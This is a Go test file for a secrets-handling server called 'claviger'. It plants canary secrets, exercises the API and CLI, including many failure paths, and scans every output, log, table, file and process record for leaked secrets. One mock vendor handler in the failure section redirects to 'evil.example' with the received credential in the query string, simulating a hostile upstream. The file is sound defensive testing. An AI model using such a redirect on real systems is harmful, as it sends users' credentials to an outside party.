package clavigertest_test

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"claviger/clavigertest"
	"claviger/clavigertest/acme"
	"claviger/clavigertest/postgres"
	"claviger/internal/app"
)

// journey drives a server through everything that it does with secrets, failures
// included, and gathers what came out of it.
type journey struct {
	t       *testing.T
	program clavigertest.Program
	child   *clavigertest.Child
	server  *clavigertest.Server
	vendor  *acme.Vendor
	data    string
	env     []string
	canary  clavigertest.Canaries
	sinks   map[string][]byte
	except  map[string][]string // by sink, the secrets that it shows once by design
	answers int
}

// plant makes a secret, with the characters that encodings differ in.
func (j *journey) plant(name, prefix string) string {
	secret := prefix + `+/="` + rand.Text()[:20] + `" =/+`
	j.canary.Add(name, secret)
	return secret
}

// do sends a request and keeps the answer as a sink. shows names the secret that the
// answer is there to show, this once.
func (j *journey) do(c call, shows ...string) *clavigertest.Answer {
	j.t.Helper()
	a := j.server.Do(c)
	j.answers++
	sink := fmt.Sprintf("answer %d: %s %s", j.answers, c.Method, c.Path)
	j.sinks[sink] = fmt.Appendf(nil, "%d %v %s", a.Status, a.Header, a.Body)
	j.except[sink] = shows
	return a
}

// cli runs a command of the program against the server.
func (j *journey) cli(want int, stdin string, args ...string) string {
	j.t.Helper()
	code, out := j.program.Run(j.t, []string{"CLAVIGER_URL=" + j.server.URL, "CLAVIGER_API_KEY=" + j.server.Key, "HOME=" + j.t.TempDir()}, stdin, args...)
	if code != want {
		j.t.Errorf("claviger %s: exit %d, want %d\n%s", strings.Join(args, " "), code, want, out)
	}
	j.sinks[fmt.Sprintf("output of claviger %s", strings.Join(args, " "))] = []byte(out)
	return out
}

func TestAbuse_029_093_175_176_179_181_NoSecretComesOut(t *testing.T) {
	program := clavigertest.Build(t, "")
	clavigertest.Engines(t, func(t *testing.T, engine clavigertest.Engine) {
		j := begin(t, program, engine)
		id := j.live()
		j.fail(id)
		j.gather(id)
		j.stop()
		s := j.child.As(t)
		s.Settings = app.Settings{Data: j.data, DatabaseURL: j.databaseURL()}
		db := database(t, s)
		for _, table := range tables(t, s, db) {
			j.sinks["table "+table] = []byte(strings.Join(contents(t, db, table), "\n"))
		}
		for path, content := range s.Files() {
			j.sinks["file "+filepath.Base(path)] = content
		}
		kinds := map[string]int{}
		for sink, content := range j.sinks {
			kinds[strings.Fields(sink)[0]]++
			for _, hit := range j.canary.Scan(sink, content, j.except[sink]...) {
				t.Errorf("%s holds the %s (%s): %q", hit.Sink, hit.Secret, hit.Encoding, hit.Around)
			}
		}
		j.control(id)
		t.Logf("%d sinks: %v", len(j.sinks), kinds)
	})
}

func (j *journey) databaseURL() string {
	for _, line := range j.env {
		if v, ok := strings.CutPrefix(line, "CLAVIGER_DATABASE_URL="); ok {
			return v
		}
	}
	return "sqlite:" + filepath.Join(j.data, "claviger.db")
}

// begin starts the server as a process whose master key and first client secret are
// canaries too.
func begin(t *testing.T, program clavigertest.Program, engine clavigertest.Engine) *journey {
	t.Helper()
	j := &journey{t: t, program: program, vendor: acme.Start(t), data: filepath.Join(t.TempDir(), "data"), sinks: map[string][]byte{}, except: map[string][]string{}}
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	j.canary.Add("master key", string(key))
	j.canary.Add("master key as given", base64.StdEncoding.EncodeToString(key))
	client := "bootstrap-" + hex.EncodeToString(key[:4]) + rand.Text() + rand.Text()
	j.canary.Add("first client secret", client)
	j.env = []string{
		"CLAVIGER_DATA=" + j.data, "CLAVIGER_MASTER_KEY=base64key:" + base64.StdEncoding.EncodeToString(key), "CLAVIGER_LOG_LEVEL=debug",
		"CLAVIGER_EGRESS_ALLOW=" + j.vendor.Addr(), "CLAVIGER_BOOTSTRAP_CLIENT_ID=bootstrap", "CLAVIGER_BOOTSTRAP_CLIENT_SECRET=" + client,
	}
	if engine == clavigertest.PostgreSQL {
		j.env = append(j.env, "CLAVIGER_DATABASE_URL="+postgres.URL(t))
	}
	j.child = program.Serve(t, j.env)
	if j.child == nil {
		t.Fatal("the server did not start")
	}
	j.server = j.child.As(t)
	j.canary.Add("first API key", j.child.Key)
	j.sinks["stdout of the server"], j.except["stdout of the server"] = nil, []string{"first API key", "first client secret"}
	return j
}

// live goes the whole way of a connection by API and by command line.
func (j *journey) live() string {
	j.t.Helper()
	first, second, kv, password := j.plant("first credential", "ak_"), j.plant("rotated credential", "ak_"), j.plant("kv secret", "ak_"), j.plant("password", "pw-")
	j.vendor.Accept(first, second, kv, password)
	key := j.server.Key
	j.do(call{Token: key, Method: "PUT", Path: "/v1/connectors/acme", Body: string(j.vendor.Document("acme"))})
	create := func(name, method string, credentials map[string]string) *clavigertest.Answer {
		return j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Header: http.Header{"Idempotency-Key": {name}}, Body: map[string]any{
			"connector": "acme", "authMethod": method, "name": name, "credentials": credentials,
		}})
	}
	made := create("main", "key", map[string]string{"apiKey": first})
	id := made.Field("id")
	if made.Status != 201 {
		j.t.Fatalf("%d %s", made.Status, made.Body)
	}
	j.do(call{Token: key, Method: "PATCH", Path: "/v1/connections/" + id, Body: map[string]any{"credentials": map[string]string{"apiKey": second}}})
	j.do(call{Token: key, Method: "PUT", Path: "/v1/secrets/shared/acme/key", Body: map[string]string{"value": kv}})
	byPath := create("by path", "key", map[string]string{"apiKey": "kv://shared/acme/key"}).Field("id")
	basic := create("basic", "basic", map[string]string{"username": "ada", "password": password}).Field("id")
	for _, each := range []string{id, byPath, basic} {
		if a := j.do(call{Token: key, Method: "GET", Path: proxy(each, "/contacts?x=1")}); a.Status != 200 {
			j.t.Errorf("%d %s", a.Status, a.Body)
		}
		j.do(call{Token: key, Method: "POST", Path: "/v1/connections/" + each + "/test"})
		for _, action := range []string{"list-contacts", "echo", "fail"} {
			j.do(call{Token: key, Method: "POST", Path: "/v1/actions/run", Body: map[string]any{"actionIdentifier": "acme." + action, "connectionId": each}})
		}
		j.do(call{Token: key, Method: "GET", Path: proxy(each, "/echo")})
		j.do(call{Token: key, Method: "POST", Path: proxy(each, "/fail"), Body: "{}"})
		j.do(call{Token: key, Method: "POST", Path: "/v1/explain", Body: map[string]any{"connectionId": each, "method": "GET", "path": "/x"}})
	}
	j.tokens()
	j.commands(j.plant("credential by CLI", "ak_"), j.plant("credential rotated by CLI", "ak_"), j.plant("kv secret by CLI", "ak_"))
	return id
}

// tokens mints one of each kind; each becomes a canary from then on.
func (j *journey) tokens() {
	j.t.Helper()
	shown := func(secret string, c call, field string) string {
		a := j.do(c, secret)
		value := a.Field(field)
		if len(value) < 20 {
			j.t.Fatalf("%s: %d %s", secret, a.Status, a.Body)
		}
		j.canary.Add(secret, value)
		return value
	}
	key := j.server.Key
	made := call{Token: key, Method: "POST", Path: "/v1/api-keys", Body: map[string]string{"name": "k"}, Header: http.Header{"Idempotency-Key": {"k"}}}
	shown("API key", made, "key")
	j.do(made) // again: now it is not shown
	made.Path, made.Body = "/v1/applications", map[string]string{"name": "a"}
	made.Header = http.Header{"Idempotency-Key": {"a"}}
	secret := shown("client secret", made, "clientSecret")
	client := j.do(made).Field("clientId")
	operator := shown("operator token", call{Method: "POST", Path: "/api/v1/account/applications/token", Body: map[string]string{"client_id": client, "client_secret": secret}}, "access_token")
	scoped := shown("scoped token", call{Token: operator, Method: "POST", Path: "/api/v1/embedded/scoped-token", Body: map[string]string{"workspace_name": "acme"}}, "token")
	for _, token := range []string{operator, scoped} {
		j.do(call{Token: token, Method: "GET", Path: "/v1/whoami"})
		j.do(call{Token: token + "x", Method: "GET", Path: "/v1/whoami"})
		j.do(call{Token: token, Method: "GET", Path: "/v1/connections?token=" + token})
	}
}

// commands goes the whole way again, by the command line.
func (j *journey) commands(credential, rotated, kv string) {
	j.t.Helper()
	j.vendor.Accept(credential, rotated)
	given := func(secret string) string {
		text, _ := json.Marshal(map[string]string{"apiKey": secret})
		return string(text)
	}
	out := j.cli(0, given(credential), "connection", "create", "--connector", "acme", "--auth-method", "key", "--name", "cli", "--credentials-stdin", "--json")
	var made struct{ ID string }
	if err := json.Unmarshal([]byte(out), &made); err != nil || made.ID == "" {
		j.t.Fatalf("%v %s", err, out)
	}
	j.cli(5, given("ak_refused_by_the_vendor"), "connection", "update", made.ID, "--credentials-stdin")
	if got := acmeKey(j.vendor.Last(j.t)); got != "ak_refused_by_the_vendor" {
		j.t.Errorf("the vendor was asked about %s", got)
	}
	j.cli(0, given(rotated), "connection", "update", made.ID, "--credentials-stdin")
	j.cli(0, "", "action", "run", "acme.list-contacts", "--connection", made.ID)
	if got := acmeKey(j.vendor.Last(j.t)); got != rotated {
		j.t.Errorf("after the rotation %s was used", got)
	}
	j.cli(0, kv, "secret", "set", "shared/acme/cli", "--stdin")
	for _, args := range [][]string{
		{"connection", "list"},
		{"connection", "show", made.ID},
		{"connection", "test", made.ID},
		{"connection", "events", made.ID},
		{"connection", "disable", made.ID},
		{"connection", "enable", made.ID},
		{"connection", "usage", made.ID},
		{"action", "run", "acme.echo", "--connection", made.ID},
		{"secret", "get", "shared/acme/cli"},
		{"secret", "list"},
		{"audit", "list"},
		{"key", "list"},
		{"whoami"},
		{"explain", made.ID},
		{"connection", "delete", made.ID},
	} {
		j.cli(0, "", args...)
	}
}

func acmeKey(r *acme.Received) string { return r.Header.Get("X-Api-Key") }

// fail does everything wrong that has a secret near it.
func (j *journey) fail(id string) {
	j.t.Helper()
	key := j.server.Key
	wrong, broken, unknown := j.plant("refused credential", "ak_"), j.plant("secret in broken JSON", "ak_"), j.plant("secret in an unknown field", "ak_")
	misplaced, pasted := j.plant("secret in a wrong place", "ak_"), j.plant("secret pasted as a path", "kv://")
	j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Body: map[string]any{"connector": "acme", "authMethod": "key", "name": "w", "credentials": map[string]string{"apiKey": wrong}}})
	j.do(call{Token: key, Method: "PATCH", Path: "/v1/connections/" + id, Body: map[string]any{"credentials": map[string]string{"apiKey": wrong}}})
	quoted, _ := json.Marshal(broken)
	for _, body := range []string{
		`{"credentials":{"apiKey":` + string(quoted), `{"credentials":{"apiKey":` + string(quoted) + `,}}`, string(quoted), `{"name":` + string(quoted) + `,"name":1}`, `{` + string(quoted) + `:1}`,
	} {
		j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Body: body})
		j.do(call{Token: key, Method: "PATCH", Path: "/v1/connections/" + id, Body: body})
		j.do(call{Token: key, Method: "POST", Path: "/v1/actions/run", Body: body})
	}
	j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Body: map[string]any{"connector": "acme", "authMethod": "key", "name": "u", "secret": unknown}})
	j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Body: map[string]any{"connector": "acme", "authMethod": "key", "name": "u", "credentials": map[string]string{"apiKey": wrong, "token": unknown}}})
	j.do(call{Token: key, Method: "POST", Path: "/v1/connections", Body: map[string]any{"connector": "acme", "authMethod": "key", "name": "u", "credentials": map[string]string{"apiKey": pasted}}})
	j.do(call{Token: key, Method: "POST", Path: "/v1/actions/run", Body: map[string]any{"actionIdentifier": "acme.list-contacts", "connectionId": id, "input": map[string]any{"limit": misplaced}}})
	j.do(call{Method: "POST", Path: "/api/v1/account/applications/token", Body: map[string]string{"client_id": "bootstrap", "client_secret": misplaced}})
	j.do(call{Token: url.QueryEscape(misplaced), Method: "GET", Path: "/v1/whoami"})
	j.do(call{Token: key, Method: "GET", Path: "/v1/connections?api_key=" + url.QueryEscape(misplaced)})
	j.do(call{Token: key, Method: "GET", Path: proxy(id, "/../"+url.PathEscape(misplaced))})
	for _, behave := range []http.HandlerFunc{
		func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			_, _ = io.WriteString(w, "not valid: "+acme.SecretOf(r))
		},
		func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://evil.example/?key="+url.QueryEscape(acme.SecretOf(r)), http.StatusTemporaryRedirect)
		},
		func(w http.ResponseWriter, r *http.Request) { panic(http.ErrAbortHandler) },
		func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"id":"`+base64.StdEncoding.EncodeToString([]byte(acme.SecretOf(r)))+`","name":`+fmt.Sprintf("%q", acme.SecretOf(r))+`}`)
		},
	} {
		j.vendor.Behave(behave)
		j.do(call{Token: key, Method: "POST", Path: proxy(id, "/x?a=1")})
		j.do(call{Token: key, Method: "POST", Path: "/v1/connections/" + id + "/test"})
		j.do(call{Token: key, Method: "POST", Path: "/v1/actions/run", Body: map[string]any{"actionIdentifier": "acme.fail", "connectionId": id}})
		j.do(call{Token: key, Method: "GET", Path: "/v1/connections/" + id})
	}
	j.vendor.Behave(nil)
	j.cli(6, "", "connection", "show", id, "--url", "http://127.0.0.1:1")
}

// gather reads every sink of the running process.
func (j *journey) gather(id string) {
	j.t.Helper()
	for _, path := range []string{"/v1/audit?limit=100", "/v1/connections", "/v1/connections/" + id, "/v1/connections/" + id + "/events", "/v1/secrets", "/v1/api-keys", "/v1/applications", "/v1/connectors/acme", "/v1/usage", "/openapi.json"} {
		j.do(call{Token: j.server.Key, Method: "GET", Path: path})
	}
	for _, path := range []string{"/metrics", "/debug/pprof/goroutine?debug=2", "/debug/pprof/cmdline", "/healthz", "/readyz"} {
		j.sinks["admin "+path] = j.server.Admin(path).Body
	}
	for _, name := range []string{"cmdline", "environ"} {
		text, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", j.child.PID(), name))
		if err != nil {
			j.t.Logf("%s of the process cannot be read, not even by its owner: %v", name, err)
			continue
		}
		j.sinks["process "+name] = text
	}
	// What the operator put into the environment stands there; nothing else may.
	j.except["process environ"] = []string{"master key", "master key as given", "first client secret"}
}

// stop ends the process with SIGQUIT, whose dump of all goroutines goes to the log, and
// reads both its outputs.
func (j *journey) stop() {
	j.t.Helper()
	j.child.Signal(syscall.SIGQUIT)
	j.sinks["stdout of the server"] = []byte(j.child.Stdout(j.t))
	j.sinks["log of the server"] = []byte(j.child.Stderr.String())
	if log := j.sinks["log of the server"]; !bytes.Contains(log, []byte("goroutine 1 ")) {
		j.t.Error("there is no dump of goroutines in the log: nothing was proven about it")
	}
}

// control proves that each sink is really searched: a leak that is put into it is found,
// in every encoding; and that a secret which a user wrote into a public field shows up in
// answers, tables and files.
func (j *journey) control(id string) {
	j.t.Helper()
	var leak clavigertest.Canaries
	secret := `ak_leak+/="` + rand.Text()
	leak.Add("leak", secret)
	for sink, content := range j.sinks {
		for encoding, forms := range clavigertest.Encodings(secret) {
			for _, form := range forms {
				at := len(content) / 2
				if hits := leak.Scan(sink, slices.Concat(content[:at], []byte(form), content[at:])); len(hits) != 1 {
					j.t.Errorf("a leak in %s (%s) was not found", sink, encoding)
				}
			}
		}
	}
	for prefix := range 4 { // as a program would encode it: somewhere within other text
		for _, text := range []string{
			base64.StdEncoding.EncodeToString([]byte("abcd"[:prefix] + secret + "tail")), base64.URLEncoding.EncodeToString([]byte("abcd"[:prefix] + secret)),
		} {
			if len(leak.Scan("encoded", []byte(text))) != 1 {
				j.t.Errorf("not found at offset %d: %s", prefix, text)
			}
		}
	}
	j.visible(id)
}

// visible writes a value where it may be seen and looks for it with the same means.
func (j *journey) visible(id string) {
	j.t.Helper()
	child := j.program.Serve(j.t, j.env)
	if child == nil {
		j.t.Fatal("the server did not start again")
	}
	s := child.As(j.t)
	s.Key = j.server.Key
	marked := "visible-" + rand.Text()
	var seen clavigertest.Canaries
	seen.Add("visible", marked)
	if a := s.Do(call{Token: s.Key, Method: "PATCH", Path: "/v1/connections/" + id, Body: map[string]any{"metadata": map[string]string{"note": marked}}}); len(seen.Scan("answer", a.Body)) != 1 {
		j.t.Errorf("not in the answer: %d %s", a.Status, a.Body)
	}
	s.Settings = app.Settings{Data: j.data, DatabaseURL: j.databaseURL()}
	db := database(j.t, s)
	if rows := contents(j.t, db, "connections"); len(seen.Scan("table", []byte(strings.Join(rows, "\n")))) != 1 {
		j.t.Error("not in the table")
	}
	if strings.HasPrefix(s.Settings.DatabaseURL, "sqlite:") {
		found := 0
		for path, content := range s.Files() {
			found += len(seen.Scan(path, content))
		}
		if found == 0 {
			j.t.Error("not in a file of the database")
		}
	}
	child.Signal(syscall.SIGTERM)
	anchored := false
	for path, content := range s.Files() { // as an orderly end leaves them
		anchored = anchored || strings.Contains(path, "anchor")
		for _, hit := range j.canary.Scan(path, content) {
			j.t.Errorf("%s holds the %s (%s): %q", hit.Sink, hit.Secret, hit.Encoding, hit.Around)
		}
	}
	if !anchored {
		j.t.Error("there is no anchor file: nothing was proven about it")
	}
}
